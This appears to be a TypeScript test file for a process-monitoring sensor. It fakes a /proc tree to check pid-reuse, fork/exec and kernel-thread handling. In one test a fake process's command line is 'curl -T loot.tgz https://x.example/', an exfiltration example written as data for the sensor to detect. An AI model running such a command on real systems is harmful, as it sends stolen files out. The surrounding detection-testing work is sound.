import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ProcessAction, type ProcessEvent } from "@vigil/proto";
import { parseProcStat } from "../../../src/platform/linux";
import { ProcessSensor } from "../../../src/sensors/process";
import { RecordingSink, waitFor } from "./recorder";

/*
 * Pid reuse cannot be provoked on demand on a real host (it needs the pid
 * counter to wrap), so these tests point the sensor at a fake procfs tree in
 * a temp dir: real files and symlinks laid out like /proc.
 */
const BTIME_S = 1_700_000_000;

function writeProcess(root: string, pid: number, ppid: number, startTicks: number, argv: string[], uid: number, exe: string) {
  const dir = join(root, String(pid));
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir);
  // Fields 3..22 of stat; comm contains a space and a ')' to exercise the parser.
  const after = ["S", ppid, pid, pid, 0, -1, 4194304, 0, 0, 0, 0, 0, 0, 0, 0, 20, 0, 1, 0, startTicks, 1000, 10];
  writeFileSync(join(dir, "stat"), `${pid} (we) ird) ${after.join(" ")}\n`);
  writeFileSync(join(dir, "status"), `Name:\twe) ird\nUid:\t${uid}\t${uid}\t${uid}\t${uid}\n`);
  writeFileSync(join(dir, "cmdline"), argv.join("\0") + "\0");
  symlinkSync(exe, join(dir, "exe"));
  symlinkSync("/tmp", join(dir, "cwd"));
}

describe("ProcessSensor on a fake procfs root", () => {
  let root: string;
  let sensor: ProcessSensor | undefined;

  beforeEach(() => {
    root = mkdtempSync(join(tmpdir(), "vigil-fakeproc-"));
    writeFileSync(join(root, "stat"), `cpu  1 2 3 4\nbtime ${BTIME_S}\n`);
    writeFileSync(join(root, "passwd"), "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n");
  });
  afterEach(async () => {
    await sensor?.stop();
    rmSync(root, { recursive: true, force: true });
  });

  it("keys processes by (pid, start time): a reused pid is an EXIT and a new START", async () => {
    writeProcess(root, 1, 0, 1, ["/sbin/init"], 0, "/bin/true");
    writeProcess(root, 4242, 1, 500, ["old", "process"], 0, "/bin/true");
    const sink = new RecordingSink();
    sensor = new ProcessSensor({ procRoot: root, passwdPath: join(root, "passwd"), intervalMs: 30 });
    await sensor.start(sink);
    expect(sink.events).toHaveLength(0);

    writeProcess(root, 4242, 1, 900, ["new", "process"], 1000, "/bin/false");
    const events = await waitFor("EXIT + START for the reused pid", () => {
      const list = sink.events.flatMap((e) => (e.body.$case === "process" ? [e.body.process] : []));
      return list.length >= 2 ? list : undefined;
    });
    const exit = events.find((e) => e.action === ProcessAction.PROCESS_ACTION_EXIT)!;
    const start = events.find((e) => e.action === ProcessAction.PROCESS_ACTION_START)!;
    expect(exit).toMatchObject({ pid: 4242, commandLine: "old process", startTimeMs: BTIME_S * 1000 + 5000, user: "root" });
    expect(start).toMatchObject({
      pid: 4242,
      ppid: 1,
      name: "we) ird",
      commandLine: "new process",
      exe: "/bin/false",
      uid: 1000,
      user: "alice",
      cwd: "/tmp",
      parentExe: "/bin/true",
      parentCommandLine: "/sbin/init",
      startTimeMs: BTIME_S * 1000 + 9000,
    } satisfies Partial<ProcessEvent>);
    expect(start.sha256).toMatch(/^[0-9a-f]{64}$/);

    rmSync(join(root, "4242"), { recursive: true });
    await waitFor("EXIT of the second process", () =>
      sink.events.find((e) => e.body.$case === "process" && e.body.process.action === ProcessAction.PROCESS_ACTION_EXIT && e.body.process.startTimeMs === BTIME_S * 1000 + 9000),
    );
  });

  it("a process caught between fork and exec is reported again once it has exec'd", async () => {
    const sink = new RecordingSink();
    sensor = new ProcessSensor({ procRoot: root, passwdPath: join(root, "passwd"), intervalMs: 1000, scanIntervalMs: 30 });
    await sensor.start(sink);
    // Started just now (relative to the fake boot time), still showing its parent's image.
    const ticks = Math.round((Date.now() / 1000 - BTIME_S) * 100);
    writeProcess(root, 5150, 1, ticks, ["node", "server.js"], 0, "/bin/true");
    await waitFor("START of the forked child", () => sink.events.find((e) => e.body.$case === "process" && e.body.process.pid === 5150));
    // It execs: same pid and start time, new image.
    writeProcess(root, 5150, 1, ticks, ["curl", "-T", "loot.tgz", "https://x.example/"], 0, "/bin/false");
    const second = await waitFor("START of the exec'd image", () =>
      sink.events.map((e) => (e.body.$case === "process" ? e.body.process : undefined)).find((p) => p?.pid === 5150 && p.commandLine.startsWith("curl")),
    );
    expect(second).toMatchObject({ action: ProcessAction.PROCESS_ACTION_START, exe: "/bin/false", startTimeMs: BTIME_S * 1000 + ticks * 10 });
  });

  it("skips kernel threads", async () => {
    const sink = new RecordingSink();
    sensor = new ProcessSensor({ procRoot: root, passwdPath: join(root, "passwd"), intervalMs: 30 });
    await sensor.start(sink);
    writeProcess(root, 2, 0, 3, [], 0, "/nonexistent");
    writeProcess(root, 77, 2, 4, [], 0, "/nonexistent");
    writeProcess(root, 78, 1, 5, ["real"], 0, "/bin/true");
    await waitFor("START of the user process", () => sink.events.find((e) => e.body.$case === "process" && e.body.process.pid === 78));
    expect(sink.events.filter((e) => e.body.$case === "process" && e.body.process.pid !== 78)).toHaveLength(0);
  });

  it("parses stat lines whose comm holds spaces and parentheses; rejects garbage", () => {
    expect(parseProcStat("12 (a) b (c)) S 1 12 12 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 777 0 0")).toMatchObject({
      pid: 12,
      comm: "a) b (c)",
      ppid: 1,
      startTicks: 777,
    });
    expect(parseProcStat("not a stat line")).toBeUndefined();
  });
});
